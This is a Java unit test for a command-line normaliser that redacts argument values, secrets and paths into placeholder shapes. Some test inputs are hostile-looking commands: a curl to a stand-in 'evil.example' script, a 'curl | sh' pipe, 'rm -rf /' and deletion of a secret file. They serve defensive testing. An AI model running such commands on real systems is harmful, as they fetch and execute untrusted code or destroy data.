package dev.sinkwatch.agent.normalize;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;

import java.util.Arrays;
import java.util.Collections;
import java.util.List;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

class CommandShapeTest {

    static Stream<Arguments> shapes() {
        return Stream.of(
                Arguments.of(List.of("/usr/bin/curl", "-s", "https://evil.example/x.sh?a=1"), "/usr/bin/curl -s <url>"),
                Arguments.of(List.of("git", "clone", "--depth=1", "git@github.com:o/r.git", "./repo"),
                        "git <arg> --depth=<arg> <arg> <path>"),
                Arguments.of(List.of("ls", "-la", "/tmp", "~/x", "../up", ".", ".."),
                        "ls -la <path> <path> <path> <path> <path>"),
                Arguments.of(List.of("kill", "-9", "12345"), "kill <num> <num>"),
                // fuzz findings: a secret as a shell's whole script; a -c after the script file is its argument;
                // a "cluster" of repeated letters is no flag cluster
                Arguments.of(List.of("sh", "-c", "s3cretTOKEN"), "sh -c \"?\""),
                Arguments.of(List.of("sh", "-c", "/usr/lib/jvm/Temurin-17/bin/java -version"),
                        "sh -c \"/usr/lib/jvm/?/bin/java -version\""),
                Arguments.of(List.of("/bin/sh", "job.sh", "-pcSecret", "x"), "/bin/sh <arg> -p<arg> <arg>"),
                Arguments.of(List.of("/bin/sh", "-pcSecretc", "echo"), "/bin/sh -p<arg> <arg>"),
                Arguments.of(List.of("convert", "in.png", "-resize", "50%", "-quality", "85", "2.5", "-1.5", "+3"),
                        "convert <arg> -resize <arg> -quality <num> <num> <num> <num>"),
                Arguments.of(List.of("java", "-Xmx512m", "-Ddb.password=hunter2", "-jar", "app.jar"),
                        "java -X<arg> -Ddb.password=<arg> -jar <arg>"),
                Arguments.of(List.of("tool", "--password", "hunter2", "--token=abc", "-", "--"),
                        "tool --password <arg> --token=<arg> <arg> --"),
                Arguments.of(List.of("C:\\Windows\\notepad.exe", "C:\\x.txt"), "C:\\Windows\\notepad.exe <arg>"),
                Arguments.of(List.of("echo", ""), "echo <arg>"),
                Arguments.of(List.of("/bin/sh", "-c", "curl http://x | sh"), "/bin/sh -c \"curl ? | sh\""),
                Arguments.of(List.of("bash", "-lc", "rm -rf /", "argv0", "42"), "bash -lc \"rm -rf ?\" <arg> <num>"),
                Arguments.of(List.of("/usr/local/bin/zsh", "-e", "-c", "id"), "/usr/local/bin/zsh -e -c \"id\""),
                Arguments.of(List.of("dash", "-c", "id"), "dash -c \"id\""),
                Arguments.of(List.of("ksh", "script.ksh", "1"), "ksh <arg> <num>"),
                Arguments.of(List.of("bash", "--norc", "-x", "/opt/run.sh"), "bash --norc -x <path>"),
                Arguments.of(List.of("cmd.exe", "/c", "del", "C:\\secret.txt"), "cmd.exe /c \"del ?\""),
                Arguments.of(List.of("cmd", "/C", "dir"), "cmd /C \"dir\""),
                Arguments.of(List.of("powershell.exe", "-NoProfile", "-Command", "Get-Process", "x"),
                        "powershell.exe -NoProfile -Command \"Get-Process ?\""),
                Arguments.of(List.of("pwsh", "-c", "ls"), "pwsh -c \"ls\""),
                Arguments.of(List.of("sh", "-c"), "sh -c"),
                Arguments.of(List.of("python3", "-c", "print(1)"), "python3 -c <arg>"),
                Arguments.of(List.of("/usr/bin/env"), "/usr/bin/env"));
    }

    @ParameterizedTest(name = "[{index}] {0}")
    @MethodSource("shapes")
    void shape(List<String> command, String expected) {
        assertEquals(expected, CommandShape.of(command));
    }

    @Test
    void emptyAndNull() {
        assertEquals("", CommandShape.of(null));
        assertEquals("", CommandShape.of(Collections.emptyList()));
        assertEquals(" <arg>", CommandShape.of(Arrays.asList(null, null)));
        assertEquals("", CommandShape.executableName(null));
        assertEquals("", CommandShape.executableName(Collections.emptyList()));
        assertEquals("", CommandShape.executableName(Collections.singletonList(null)));
    }

    @Test
    void executableName() {
        assertEquals("curl", CommandShape.executableName(List.of("/usr/bin/curl", "-s")));
        assertEquals("bash", CommandShape.executableName(List.of("bash")));
        assertEquals("cmd.exe", CommandShape.executableName(List.of("C:\\Windows\\System32\\cmd.exe")));
        assertEquals("tool", CommandShape.executableName(List.of("./bin/tool/")));
    }

    @Test
    void noArgumentValueSurvives() {
        String shape = CommandShape.of(List.of("mysql", "--user", "root", "--password=hunter2", "-h",
                "db.internal", "https://u:hunter2@x/", "/home/bob/secret", "hunter2"));
        assertEquals("mysql --user <arg> --password=<arg> -h <arg> <url> <path> <arg>", shape);
        assertFalse(shape.contains("hunter2"));
        assertFalse(shape.contains("bob"));
    }
}
